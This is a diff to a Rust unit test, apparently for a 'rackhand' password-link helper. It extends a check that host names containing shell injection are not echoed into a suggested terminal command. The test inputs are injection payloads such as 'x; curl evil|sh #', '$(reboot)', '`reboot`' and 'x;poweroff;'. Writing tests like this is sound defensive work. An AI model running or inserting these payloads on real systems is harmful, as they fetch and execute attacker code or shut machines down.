@@ -320,8 +320,21 @@ mod tests {
             said.ends_with("At a terminal: `rackhand password --with-link --api https://rackhand.example`"),
             "{said}"
         );
-        let said =
-            hand_over("https://x; curl evil|sh #/choose-password#t0ken", "http://127.0.0.1:8420", 7200);
-        assert!(said.contains("of this machine") && said.contains("--api http://127.0.0.1:8420`"), "{said}");
+        for host in [
+            "x; curl evil|sh #",
+            "x;poweroff;",
+            "x;{wget,evil.example}",
+            "$(reboot)",
+            "`reboot`",
+            "x&reboot&",
+            "x'",
+        ] {
+            let link = format!("https://{host}/choose-password#t0ken");
+            let said = hand_over(&link, "http://127.0.0.1:8420", 7200);
+            assert!(
+                said.contains("of this machine") && said.contains("--api http://127.0.0.1:8420`"),
+                "{said}"
+            );
+        }
     }
 }
